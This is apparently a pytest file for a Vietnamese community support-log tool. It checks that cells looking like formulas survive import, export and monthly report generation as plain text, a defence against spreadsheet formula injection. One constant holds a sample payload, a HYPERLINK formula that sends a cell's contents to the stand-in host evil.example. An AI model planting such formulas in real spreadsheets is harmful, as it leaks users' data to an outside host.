"""A support-log cell that looks like a formula goes in as text and comes out as text: through
`tdp support import` → `tdp support export`, and `tdp report monthly --xlsx` («Chi tiết»)."""

from __future__ import annotations

import os
import subprocess
import sys
from datetime import date
from pathlib import Path

from openpyxl import load_workbook

TDP = str(Path(sys.executable).with_name("tdp"))
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def tdp(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([TDP, *args], cwd=cwd, capture_output=True, text=True,
                          env=os.environ.copy(), timeout=120)


def formulas(path: Path) -> list[str]:
    book = load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in book.worksheets for row in ws.iter_rows()
            for c in row if c.data_type == "f"]


def test_a_formula_in_the_log_is_written_back_as_text(db_url, tmp_path):
    assert tdp("support", "template", "mau.xlsx", cwd=tmp_path).returncode == 0
    wb = load_workbook(tmp_path / "mau.xlsx")
    wb["Sổ hỗ trợ"].append([date(2025, 3, 1), "thong_nhat", "to_2", "khai_sinh", "nha_van_hoa",
                            "tu_60", "da_nop", EVIL])
    wb["Sổ hỗ trợ"]["H2"].data_type = "s"  # typed as text ('=…), as a volunteer's Excel keeps it
    wb.save(tmp_path / "so.xlsx")
    run = tdp("support", "import", "so.xlsx", cwd=tmp_path)
    assert run.returncode == 0, run.stdout + run.stderr

    run = tdp("support", "export", "xuat.xlsx", "--ward", "thong_nhat", cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    assert formulas(tmp_path / "xuat.xlsx") == []
    log = load_workbook(tmp_path / "xuat.xlsx")["Sổ hỗ trợ"]
    assert log["H2"].value == EVIL and log["H2"].data_type == "s" and log["H2"].quotePrefix

    run = tdp("report", "monthly", "--ward", "thong_nhat", "--month", "2025-03", "--xlsx",
              "bc.xlsx", cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    assert formulas(tmp_path / "bc.xlsx") == []
    detail = load_workbook(tmp_path / "bc.xlsx")["Chi tiết"]
    assert [c.value for c in detail["H"]][1:] == [EVIL]
    report = load_workbook(tmp_path / "bc.xlsx")["Báo cáo"]
    assert any(isinstance(c.value, int) for row in report.iter_rows() for c in row)

    # the exported file reads back as the same text (a round trip, nothing imported twice)
    run = tdp("support", "import", "xuat.xlsx", "--kiem-tra", cwd=tmp_path)
    assert run.returncode == 0, run.stdout + run.stderr
    assert "1 dòng hợp lệ" in run.stdout
